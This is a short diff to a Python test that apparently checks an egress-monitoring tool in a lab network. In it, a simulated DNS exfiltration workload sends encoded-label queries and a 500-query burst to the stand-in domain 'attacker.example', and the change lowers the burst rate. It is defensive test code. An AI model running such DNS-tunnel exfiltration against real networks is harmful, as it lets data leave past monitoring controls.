@@ -90,7 +90,8 @@ def test_audit_exfil_workload_passes_and_is_logged(anylab):
         r = anylab.dnsq(L.RESOLVER4, "%s.k.attacker.example/A" % label)
         assert r.get("rcode") == "NOERROR", r
         assert [a["value"] for a in r["answers"]] == [L.ATTACKER4], r
-    burst = X.dnsburst(anylab, "attacker.example", 500, rate=250, seed=7)
+    # Each answer comes from the attacker's Python server through dnsmasq: a gentler rate.
+    burst = X.dnsburst(anylab, "attacker.example", 500, rate=100, seed=7)
     assert burst["rcodes"] == {"NOERROR": 500} and burst["unanswered"] == 0, dns_diag(anylab, burst)
 
     # The attacker got it all (this is audit), egressd flagged it all.
